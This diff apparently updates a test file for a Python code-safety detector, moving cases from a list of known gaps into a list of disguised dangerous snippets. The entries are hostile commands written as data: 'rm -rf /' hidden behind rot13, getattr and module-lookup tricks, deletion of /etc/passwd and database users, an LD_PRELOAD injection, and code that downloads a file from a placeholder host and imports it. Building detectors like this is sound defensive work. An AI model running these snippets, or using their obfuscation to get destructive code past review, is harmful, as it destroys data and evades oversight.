@@ -53,6 +53,11 @@ DISGUISED = [
     "from pathlib import Path\nf = Path('/etc/passwd').unlink\nf()",
     "from pathlib import Path\nf = getattr(Path('/etc/passwd'), 'unlink')\ng = f\ng()",
     "import sqlite3\nrun = sqlite3.connect('a.db').executescript\nrun('DROP TABLE users')",
+    "import os; os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
+    "import os; os.environ.update(LD_PRELOAD='/tmp/x.so')",
+    "from django.contrib.auth.models import User; User.objects.all().delete()",
+    "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
+    "import codecs\nexec(codecs.encode('vzcbeg bf; bf.flfgrz(\"ez -es /\")', 'rot13'))",
     # out of namespaces
     "import os, sys; sys._getframe().f_globals['o' + 's'].system('rm -rf /')",
     "import os, sys; sys.modules['__main__'].__dict__['o' + 's'].system('rm -rf /')",
@@ -267,9 +272,6 @@ DISGUISED = [
 
 #: Known gaps: what runs is decided by a library that is not in the tables, or by the import of a file.
 GAPS = [
-    "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
-    "import os; os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
-    "from django.contrib.auth.models import User; User.objects.all().delete()",
     "import os\n@os.system\ndef rm(): pass",
     "from plumbum import local; local['rm']['-rf','/']()",
 ]
